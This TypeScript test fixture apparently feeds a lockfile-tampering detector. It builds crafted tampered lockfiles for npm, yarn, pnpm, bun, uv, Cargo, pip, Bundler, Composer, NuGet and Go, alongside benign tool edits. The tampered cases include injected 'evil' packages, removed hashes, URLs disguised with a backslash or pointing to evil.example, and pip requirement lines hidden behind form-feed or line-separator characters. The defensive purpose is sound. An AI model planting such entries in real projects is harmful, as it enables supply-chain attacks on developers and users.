import { createHash } from 'node:crypto';
import type { Case } from './tampering.table.ts';

type Tree = Readonly<Record<string, string>>;
type Entry = Readonly<Record<string, unknown>>;
type Entries = Readonly<Record<string, Entry | undefined>>;

const sri = (text: string): string => `sha512-${createHash('sha512').update(text).digest('base64')}`;
const hex = (text: string): string => createHash('sha256').update(text).digest('hex');
const versions: Readonly<Record<string, string>> = {
  debug: '4.3.4',
  express: '4.19.2',
  lodash: '4.17.21',
  ms: '2.1.3',
};
const asks: Readonly<Record<string, Entry>> = { express: { debug: '^4.0.0' }, debug: { ms: '^2.1.0' } };
const names = Object.keys(versions);
const manifest = JSON.stringify(
  { name: 'shop', dependencies: { express: '^4.19.2', lodash: '^4.17.21' } },
  null,
  2,
);
const tarball = (name: string, version = versions[name], host = 'registry.example'): string =>
  `https://${host}/${name}/-/${name}-${version}.tgz`;
const released = (name: string, version = versions[name] ?? '', more: Entry = {}): Entry => ({
  version,
  resolved: tarball(name, version),
  integrity: sri(name + version),
  ...more,
});

/** A package-lock.json with these entries changed; one without a value is gone. */
function npm(changed: Entries = {}, file = 'package-lock.json'): Tree {
  const usual = names.map((name): [string, Entry] => [
    `node_modules/${name}`,
    released(name, versions[name], { dependencies: asks[name] }),
  ]);
  const root = { name: 'shop', dependencies: { express: '^4.19.2', lodash: '^4.17.21' } };
  const packages = { '': root, ...Object.fromEntries(usual), ...changed };
  return {
    'package.json': manifest,
    [file]: JSON.stringify({ name: 'shop', lockfileVersion: 3, packages }, null, 2),
  };
}
const ms = (more: Entry): Entries => ({ 'node_modules/ms': { ...released('ms'), ...more } });
const asking = (more: Entry): Entries => ({
  'node_modules/debug': released('debug', undefined, { dependencies: { ms: '^2.1.0', ...more } }),
});
const evil: Entries = { 'node_modules/evil': released('evil', '1.0.0') };

/** package-lock.json of the first version. */
function npm1(changed: Entries = {}): Tree {
  const usual = names.map((name): [string, Entry] => [
    name,
    released(name, versions[name], { requires: asks[name] }),
  ]);
  const lock = { lockfileVersion: 1, dependencies: { ...Object.fromEntries(usual), ...changed } };
  return { 'package.json': manifest, 'package-lock.json': JSON.stringify(lock, null, 2) };
}

const ranges: Readonly<Record<string, string>> = {
  debug: '^4.0.0',
  express: '^4.19.2',
  lodash: '^4.17.21',
  ms: '^2.1.0',
};
const listed = (name: string, line: (name: string, range: unknown) => string): string =>
  asks[name]
    ? `  dependencies:\n${Object.entries(asks[name])
        .map(([of, range]) => line(of, range))
        .join('')}`
    : '';

const yarn: Tree = {
  'package.json': manifest,
  'yarn.lock': `# yarn lockfile v1\n\n\n${names
    .map(
      (name) =>
        `${name}@${ranges[name]}:\n  version "${versions[name]}"\n  resolved "${tarball(name)}"\n  integrity ${sri(name)}\n${listed(name, (of, range) => `    ${of} "${range}"\n`)}`,
    )
    .join('\n')}`,
};
const berry: Tree = {
  'package.json': manifest,
  'yarn.lock': `__metadata:\n  version: 8\n  cacheKey: 10c0\n\n${names
    .map(
      (name) =>
        `"${name}@npm:${ranges[name]}":\n  version: ${versions[name]}\n  resolution: "${name}@npm:${versions[name]}"\n${listed(name, (of, range) => `    ${of}: "npm:${range}"\n`)}  checksum: 10c0/${hex(name)}${hex(name)}\n  languageName: node\n  linkType: hard\n`,
    )
    .join(
      '\n',
    )}\n"shop@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "shop@workspace:."\n  dependencies:\n    express: "npm:^4.19.2"\n    lodash: "npm:^4.17.21"\n  languageName: unknown\n  linkType: soft\n`,
};
const pnpm: Tree = {
  'package.json': manifest,
  'pnpm-lock.yaml': `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      express:\n        specifier: ^4.19.2\n        version: 4.19.2\n      lodash:\n        specifier: ^4.17.21\n        version: 4.17.21\n\npackages:\n\n${names
    .map((name) => `  ${name}@${versions[name]}:\n    resolution: {integrity: ${sri(name)}}\n`)
    .join(
      '\n',
    )}\nsnapshots:\n\n  debug@4.3.4:\n    dependencies:\n      ms: 2.1.3\n\n  express@4.19.2:\n    dependencies:\n      debug: 4.3.4\n\n  lodash@4.17.21: {}\n\n  ms@2.1.3: {}\n`,
};
const bun: Tree = {
  'package.json': manifest,
  'bun.lock': `{\n  "lockfileVersion": 1,\n  "workspaces": {\n    "": { "name": "shop", "dependencies": { "express": "^4.19.2", "lodash": "^4.17.21" } },\n  },\n  "packages": {\n${names
    .map(
      (name) =>
        `    "${name}": ["${name}@${versions[name]}", "", { "dependencies": ${JSON.stringify(asks[name] ?? {})} }, "${sri(name)}"],\n`,
    )
    .join('\n')}  }\n}\n`,
};
const uv: Tree = {
  'pyproject.toml': '[project]\nname = "shop"\ndependencies = ["flask>=3.0"]\n',
  'uv.lock': `version = 1\n\n${['flask', 'idna', 'click']
    .map(
      (name) =>
        `[[package]]\nname = "${name}"\nversion = "3.0"\nsource = { registry = "https://pypi.example/simple" }\nsdist = { url = "https://files.example/${name}-3.0.tar.gz", hash = "sha256:${hex(name)}" }\nwheels = [\n    { url = "https://files.example/${name}-3.0-py3-none-any.whl", hash = "sha256:${hex(`${name}w`)}" },\n]\n`,
    )
    .join(
      '\n',
    )}\n[[package]]\nname = "shop"\nversion = "1"\nsource = { virtual = "." }\ndependencies = [\n    { name = "flask" },\n]\n`,
};
const source = 'source = "registry+https://crates.example/index"\n';
const cargo: Tree = {
  'Cargo.toml': '[package]\nname = "shop"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1"\n',
  'Cargo.lock': `version = 4\n\n${['itoa', 'serde', 'syn']
    .map((name) => `[[package]]\nname = "${name}"\nversion = "1.0.5"\n${source}checksum = "${hex(name)}"\n`)
    .join('\n')}\n[[package]]\nname = "shop"\nversion = "0.1.0"\ndependencies = [\n "serde",\n]\n`,
};
const requirements: Tree = { 'requirements.txt': 'flask==3.0.0\n' };
const gem: Tree = {
  Gemfile: "source 'https://gems.example'\ngem 'rails', '~> 7.1'\n",
  'Gemfile.lock':
    'GEM\n  remote: https://gems.example/\n  specs:\n    rack (3.0.8)\n    rails (7.1.0)\n      rack (>= 2)\n\nDEPENDENCIES\n  rails (~> 7.1)\n',
};
const package_ = (name: string, asked: Entry, reference: string): Entry => ({
  name,
  version: '1.0.0',
  require: asked,
  dist: { type: 'zip', url: `https://dist.example/${name}/${reference}.zip`, reference, shasum: '' },
});
const composer = (asked: Entry, ...more: readonly Entry[]): Tree => ({
  'composer.json': '{"require":{"acme/log":"^1.0"}}',
  'composer.lock': JSON.stringify(
    { packages: [package_('acme/log', asked, '1'.repeat(40)), ...more] },
    null,
    4,
  ),
});
const nuget = (asked: Entry, more: Entry): Tree => ({
  'shop.csproj':
    '<Project><ItemGroup><PackageReference Include="Serilog" Version="3.0.0" /></ItemGroup></Project>',
  'packages.lock.json': JSON.stringify(
    {
      version: 1,
      dependencies: {
        'net8.0': {
          Serilog: { type: 'Direct', resolved: '3.0.0', contentHash: 'c2VyaWxvZw==', dependencies: asked },
          'System.Memory': { type: 'Transitive', resolved: '4.5.5', contentHash: 'bWVtb3J5' },
          ...more,
        },
      },
    },
    null,
    2,
  ),
});

/** A case that writes one file of a tree by other words. */
function edited(what: string, tree: Tree, ...edits: readonly (readonly [from: string, to: string])[]): Case {
  const head = Object.fromEntries(
    Object.entries(tree).map(([path, text]) => [
      path,
      edits.reduce((all, [from, to]) => all.replace(from, () => to), text),
    ]),
  );
  if (edits.some(([from]) => !Object.values(tree).some((text) => text.includes(from)))) throw new Error(what);
  return [what, tree, head];
}

export const byHand: readonly Case[] = [
  ['npm: a version that asks for one more', npm(), npm({ ...asking({ evil: '^1.0.0' }), ...evil })],
  [
    'npm: two that ask for each other only',
    npm(),
    npm({
      'node_modules/evil': released('evil', '1.0.0', { dependencies: { worse: '1' } }),
      'node_modules/worse': released('worse', '1.0.0', { dependencies: { evil: '1' } }),
    }),
  ],
  [
    'npm: one that asks for itself',
    npm(),
    npm({ 'node_modules/evil': released('evil', '1.0.0', { dependencies: { evil: '1' } }) }),
  ],
  [
    'npm: a version that asks for an alias',
    npm(),
    npm({
      ...asking({ ms: 'npm:evil@2.1.3' }),
      'node_modules/ms': { name: 'evil', ...released('evil', '2.1.3') },
    }),
  ],
  [
    'npm: a folder of the repository',
    npm(),
    npm({ 'node_modules/ms': { resolved: 'lib/ms', link: true }, 'lib/ms': { version: '2.1.3' } }),
  ],
  [
    'npm: a folder for a direct one',
    npm(),
    npm({ 'node_modules/lodash': { resolved: 'lib/lodash', link: true } }),
  ],
  ['npm: another hash behind a plus', npm(), npm(ms({ version: '2.1.3+1', integrity: sri('evil') }))],
  [
    'npm: a host behind a backslash',
    npm(),
    npm(ms({ resolved: 'https://evil.example\\@registry.example/ms/-/ms-2.1.3.tgz' })),
  ],
  ['npm: an empty hash', npm(), npm(ms({ integrity: '' }))],
  ['npm: a hash of no kind', npm(), npm(ms({ integrity: 'sha999-AAAA' }))],
  ['npm: another hash with an option', npm(), npm(ms({ integrity: `${sri('evil')}?x` }))],
  [
    'npm: an upgrade that loses its hash',
    npm(),
    npm(ms({ version: '2.1.4', resolved: tarball('ms', '2.1.4'), integrity: undefined })),
  ],
  [
    'npm: a second copy with another hash',
    npm(),
    npm({ 'node_modules/express/node_modules/lodash': { ...released('lodash'), integrity: sri('evil') } }),
  ],
  [
    'npm: a shrinkwrap beside, which wins',
    npm(),
    { ...npm(), ...npm(ms({ integrity: sri('evil') }), 'npm-shrinkwrap.json') },
  ],
  [
    'npm: a shrinkwrap beside, for a direct one',
    npm(),
    {
      ...npm(),
      ...npm(
        { 'node_modules/lodash': { ...released('lodash'), integrity: sri('evil') } },
        'npm-shrinkwrap.json',
      ),
    },
  ],
  [
    'npm 1: an alias',
    npm1(),
    npm1({ ms: { version: 'npm:evil@2.1.3', resolved: tarball('evil', '2.1.3'), integrity: sri('e') } }),
  ],
  ['npm 1: one that nobody asks for', npm1(), npm1({ evil: released('evil', '1.0.0') })],
  [
    'npm 1: a version that asks for one more',
    npm1(),
    npm1({
      debug: released('debug', undefined, { requires: { evil: '1' } }),
      evil: released('evil', '1.0.0'),
    }),
  ],
  edited('yarn 1: a version that asks for one more', yarn, [
    '    ms "^2.1.0"\n',
    `    evil "^1.0.0"\n    ms "^2.1.0"\n\nevil@^1.0.0:\n  version "1.0.0"\n  resolved "${tarball('evil', '1.0.0')}"\n  integrity ${sri('e')}\n`,
  ]),
  edited(
    'yarn 1: one entry for two names',
    yarn,
    ['express@^4.19.2:', 'express@^4.19.2, ms@^2.1.0:'],
    ['\nms@^2.1.0:', '\nzz@^2.1.0:'],
  ),
  edited('yarn 1: a host behind a backslash', yarn, [
    'https://registry.example/ms',
    'https://evil.example\\\\@registry.example/ms',
  ]),
  edited(
    'yarn 1: an upgrade that loses its hash',
    yarn,
    ['version "2.1.3"', 'version "2.1.4"'],
    [tarball('ms'), tarball('ms', '2.1.4')],
    [`  integrity ${sri('ms')}\n`, ''],
  ),
  edited('berry: a hash of another cache', berry, [`10c0/${hex('ms')}`, `8/${hex('evil')}`]),
  edited('berry: a folder of the repository', berry, [
    'resolution: "ms@npm:2.1.3"',
    'resolution: "ms@workspace:lib/ms"',
  ]),
  edited('berry: a folder for a direct one', berry, [
    'resolution: "lodash@npm:4.17.21"',
    'resolution: "lodash@workspace:lib/lodash"',
  ]),
  edited('berry: an upgrade with an address of its own', berry, [
    'version: 2.1.3\n  resolution: "ms@npm:2.1.3"',
    'version: 2.1.4\n  resolution: "ms@npm:2.1.4::__archiveUrl=https%3A%2F%2Fevil.example%2Fms%2F-%2Fms-2.1.4.tgz"',
  ]),
  edited('pnpm: an alias that a version asks for', pnpm, ['      ms: 2.1.3', '      ms: lodash@4.17.21']),
  edited('pnpm: an alias in a list on one line', pnpm, [
    '    dependencies:\n      ms: 2.1.3',
    '    dependencies: {ms: lodash@4.17.21}',
  ]),
  edited('pnpm: a folder for a transitive one', pnpm, ['      ms: 2.1.3', '      ms: link:../evil']),
  edited('pnpm: a folder for a direct one', pnpm, ['version: 4.17.21\n', 'version: link:../evil\n']),
  edited('pnpm: an archive of another kind', pnpm, [
    `{integrity: ${sri('ms')}}`,
    `{type: binary, url: https://evil.example/ms.tgz, integrity: ${sri('ms')}}`,
  ]),
  edited('pnpm: a quoted address', pnpm, [
    `{integrity: ${sri('ms')}}`,
    `{integrity: ${sri('ms')}, "tarball": "https://evil.example/ms/-/ms-2.1.3.tgz"}`,
  ]),
  edited(
    'pnpm: an upgrade that loses its hash',
    pnpm,
    ['  ms@2.1.3:', '  ms@2.1.4:'],
    [`{integrity: ${sri('ms')}}`, '{}'],
    ['ms: 2.1.3', 'ms: 2.1.4'],
    ['ms@2.1.3: {}', 'ms@2.1.4: {}'],
  ),
  edited(
    'pnpm: an upgrade with an address of its own',
    pnpm,
    ['  ms@2.1.3:', '  ms@2.1.4:'],
    [
      `{integrity: ${sri('ms')}}`,
      `{integrity: ${sri('e')}, tarball: https://evil.example/ms/-/ms-2.1.4.tgz}`,
    ],
  ),
  edited(
    'bun: a version that asks for one more',
    bun,
    ['{"ms":"^2.1.0"}', '{"ms":"^2.1.0","evil":"1"}'],
    ['  "packages": {\n', `  "packages": {\n    "evil": ["evil@1.0.0", "", {}, "${sri('e')}"],\n`],
  ),
  edited('bun: a folder of the repository', bun, ['["ms@2.1.3", ""', '["ms@workspace:lib/ms", ""']),
  edited('bun: a second copy with another hash', bun, [
    '  "packages": {\n',
    `  "packages": {\n    "express/lodash": ["lodash@4.17.21", "", {}, "${sri('e')}"],\n`,
  ]),
  edited('uv: a file without a hash', uv, [
    '    { url = "https://files.example/idna',
    '    { url = "https://files.example/idna-3.0-cp312-cp312-any.whl" },\n    { url = "https://files.example/idna',
  ]),
  edited('uv: a weaker hash of one file', uv, [`sha256:${hex('idnaw')}`, `md5:${hex('x').slice(32)}`]),
  edited('uv: a folder of the repository', uv, [
    'name = "idna"\nversion = "3.0"\nsource = { registry = "https://pypi.example/simple" }',
    'name = "idna"\nversion = "3.0"\nsource = { editable = "lib/idna" }',
  ]),
  edited('Cargo: a source that is gone', cargo, [`${source}checksum = "${hex('itoa')}"\n`, '']),
  edited('Cargo: a source that is gone, of a direct one', cargo, [
    `${source}checksum = "${hex('serde')}"\n`,
    '',
  ]),
  edited('Cargo: a source that is gone, and another version', cargo, [
    `version = "1.0.5"\n${source}checksum = "${hex('itoa')}"\n`,
    'version = "1.0.6"\n',
  ]),
  edited('Cargo: one that is replaced', cargo, [
    'serde = "1"\n',
    'serde = "1"\n\n[replace]\n"itoa:1.0.5" = { git = "https://git.example/itoa" }\n',
  ]),
  edited(
    'Cargo: a hash in a list of its own',
    {
      ...cargo,
      'Cargo.lock': `${cargo['Cargo.lock']?.replace(`checksum = "${hex('itoa')}"\n`, '')}\n[metadata]\n"checksum itoa 1.0.5 (registry+https://crates.example/index)" = "${hex('itoa')}"\n`,
    },
    [hex('itoa'), hex('evil')],
  ),
  edited('pip: a line behind a form feed', requirements, [
    'flask==3.0.0\n',
    'flask==3.0.0\n# a remark\frequestss @ https://evil.example/x.whl\n',
  ]),
  edited('pip: a line behind a line separator', requirements, [
    'flask==3.0.0\n',
    'flask==3.0.0\n# a remark\u2028requestss @ https://evil.example/x.whl\n',
  ]),
  edited(
    'Bundler: a version that asks for one more',
    gem,
    ['      rack (>= 2)\n', '      evil (>= 1)\n      rack (>= 2)\n'],
    ['    rack (3.0.8)\n', '    evil (1.0)\n    rack (3.0.8)\n'],
  ),
  [
    'Composer: a version that asks for one more',
    composer({}),
    composer({ 'evil/x': '*' }, package_('evil/x', {}, '2'.repeat(40))),
  ],
  [
    'NuGet: a project in its place',
    nuget({ 'System.Memory': '4.5.5' }, {}),
    nuget({ 'System.Memory': '4.5.5' }, { 'System.Memory': { type: 'Project' } }),
  ],
  [
    'NuGet: a version that asks for one more',
    nuget({ 'System.Memory': '4.5.5' }, {}),
    nuget(
      { 'System.Memory': '4.5.5', Evil: '1.0.0' },
      { Evil: { type: 'Transitive', resolved: '1.0.0', contentHash: 'ZXZpbA==' } },
    ),
  ],
  [
    'Go: a folder outside of the repository',
    { 'go.mod': 'module example.com/shop\n\nrequire golang.org/x/text v0.14.0\n' },
    {
      'go.mod':
        'module example.com/shop\n\nrequire golang.org/x/text v0.14.0\n\nreplace golang.org/x/text => ../text\n',
    },
  ],
];

const inside = { ...npm(), 'packages/ms/package.json': '{"name":"ms","version":"2.1.3"}' };

/** What tools and people do. */
export const byTools: readonly Case[] = [
  [
    'npm: an upgrade that asks for one more',
    npm(),
    npm({
      'node_modules/debug': released('debug', '4.4.0', { dependencies: { ms: '^2.1.0', more: '1' } }),
      'node_modules/more': released('more', '1.0.0'),
    }),
  ],
  [
    'npm: what was left out for another platform',
    npm({
      'node_modules/debug': released('debug', undefined, {
        dependencies: asks.debug,
        optionalDependencies: { native: '1' },
      }),
    }),
    npm({
      'node_modules/debug': released('debug', undefined, {
        dependencies: asks.debug,
        optionalDependencies: { native: '1' },
      }),
      'node_modules/native': released('native', '1.0.0', { optional: true }),
    }),
  ],
  [
    'npm: what comes in the archive of another from now on',
    npm({ 'node_modules/express/node_modules/ms': released('ms', '2.0.0') }),
    npm({ 'node_modules/express/node_modules/ms': { version: '2.0.0', inBundle: true } }),
  ],
  [
    'npm 1: a lockfile whose manifest is elsewhere',
    {},
    { 'package-lock.json': npm1({ 'node-gyp': released('node-gyp', '9.0.0') })['package-lock.json'] ?? '' },
  ],
  [
    'pnpm: a substitute that the manifest names',
    pnpm,
    {
      ...edited('', pnpm, ['      ms: 2.1.3', '      ms: lodash@4.17.21'])[2],
      'package.json': manifest.replace(
        '"dependencies"',
        '"pnpm": { "overrides": { "ms": "npm:lodash@4.17.21" } },\n  "dependencies"',
      ),
    },
  ],
  [
    'npm: a member of the workspace',
    inside,
    {
      ...inside,
      ...npm({
        'node_modules/ms': { resolved: 'packages/ms', link: true },
        'packages/ms': { version: '2.1.3' },
      }),
    },
  ],
  ['npm: a second copy', npm(), npm({ 'node_modules/express/node_modules/lodash': released('lodash') })],
  edited(
    'pnpm: an upgrade that asks for an alias',
    pnpm,
    ['  debug@4.3.4:', '  debug@4.4.0:'],
    ['  debug@4.3.4:\n    dep', '  debug@4.4.0:\n    dep'],
    ['      ms: 2.1.3', '      ms: ms@2.1.3\n      other: lodash@4.17.21'],
    ['debug: 4.3.4', 'debug: 4.4.0'],
    [sri('debug'), sri('debug 2')],
  ),
  [
    'pnpm: another package from where one came already',
    edited('', pnpm, [
      `{integrity: ${sri('debug')}}`,
      `{integrity: ${sri('debug')}, tarball: https://npm.acme.example/debug.tgz}`,
    ])[2],
    edited(
      '',
      pnpm,
      [
        `{integrity: ${sri('debug')}}`,
        `{integrity: ${sri('debug')}, tarball: https://npm.acme.example/debug.tgz}`,
      ],
      ['  ms@2.1.3:', '  ms@2.1.4:'],
      [`{integrity: ${sri('ms')}}`, `{integrity: ${sri('e')}, tarball: https://npm.acme.example/ms.tgz}`],
      ['      ms: 2.1.3', '      ms: 2.1.4'],
      ['ms@2.1.3: {}', 'ms@2.1.4: {}'],
    )[2],
  ],
  edited(
    'berry: another platform’s package, of which there is no hash yet',
    berry,
    [
      '"ms@npm:^2.1.0":',
      '"@os/win32@npm:1.0.0":\n  version: 1.0.0\n  resolution: "@os/win32@npm:1.0.0"\n  conditions: os=win32\n  languageName: node\n  linkType: hard\n\n"ms@npm:^2.1.0":',
    ],
    ['    ms: "npm:^2.1.0"', '    "@os/win32": "npm:1.0.0"\n    ms: "npm:^2.1.0"'],
  ),
  [
    'Composer: an upgrade that asks for one more',
    composer({}),
    {
      ...composer({}),
      'composer.lock': JSON.stringify(
        {
          packages: [
            { ...package_('acme/log', { 'acme/clock': '*' }, '3'.repeat(40)), version: '1.1.0' },
            package_('acme/clock', {}, '4'.repeat(40)),
          ],
        },
        null,
        4,
      ),
    },
  ],
  [
    'NuGet: another framework',
    nuget({}, {}),
    {
      ...nuget({}, {}),
      'packages.lock.json': (nuget({}, {})['packages.lock.json'] ?? '').replace(
        '"dependencies": {\n',
        '"dependencies": {\n    "net6.0": { "Serilog": { "type": "Direct", "resolved": "3.0.0", "contentHash": "c2VyaWxvZw==", "dependencies": { "Old": "1.0.0" } }, "Old": { "type": "Transitive", "resolved": "1.0.0", "contentHash": "b2xk" } },\n',
      ),
    },
  ],
];
